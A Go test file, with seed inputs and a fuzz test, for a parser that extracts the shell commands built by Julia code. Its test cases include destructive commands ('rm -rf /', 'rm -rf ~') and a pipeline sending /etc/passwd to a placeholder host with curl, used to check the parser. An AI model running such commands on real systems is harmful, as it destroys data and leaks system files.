package julia

import (
	"strings"
	"testing"
)

// TestCommands holds Julia code to the commands it builds, as Julia
// splits them (no shell: ~, | and > are words), interpolation to a
// command not known, and a backtick in a string or a comment to none.
func TestCommands(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"run(`rm -rf ~`)", `rm -rf '~'`},
		{"run(`rm -rf /`)", `rm -rf /`},
		{"run(`sh -c \"rm -rf ~\"`)", `sh -c 'rm -rf ~'`},
		{"run(`sh -c 'rm -rf ~'`)", `sh -c 'rm -rf ~'`},
		{"run(`echo a\\ b`)", `echo 'a b'`},
		{"run(`echo a | wc`)", `echo a '|' wc`},
		{"run(pipeline(`cat /etc/passwd`, `curl -d @- https://x.example`))", `cat /etc/passwd | curl -d @- https://x.example`},
		{"run(pipeline(`cat x`, stdout=\"out.txt\")); run(`id`)", `cat x ; id`},
		{"run(Cmd([\"rm\", \"-rf\", \"/\"]))", `rm -rf /`},
		{"run(Cmd([\"rm\", d]))", `?`},
		{"run(`rm -rf $d`)", `?`},
		{"run(`rm -rf $(homedir())`)", `?`},
		{"read(```id```, String)", `id`},
		{"println(\"`rm -rf ~`\") # `rm -rf /`", ``},
		{"#= `rm -rf /` =# x'", ``},
		{"c = 'a'; run(`ls`)", `ls`},
	} {
		var ws []string
		for _, cmd := range Commands(c.in) {
			if cmd.Unknown {
				ws = append(ws, "?")
			} else {
				ws = append(ws, cmd.Shell)
			}
		}
		if got := strings.Join(ws, " ; "); got != c.want {
			t.Errorf("%q:\n got %s\nwant %s", c.in, got, c.want)
		}
	}
}

var seeds = []string{"`", "```", "`a'", "`a\"", "`$", "run(pipeline(`a`", "Cmd([", "Cmd([\"a", "#=", "#= #=", "\"", "\"\"\"", "'", "'\\", "x'", "pipeline(((", ")))"}

func TestSeeds(t *testing.T) {
	for _, s := range seeds {
		Commands(s)
	}
	Commands(strings.Repeat("pipeline(`a`, ", 5000))
}

func FuzzCommands(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { Commands(s) })
}
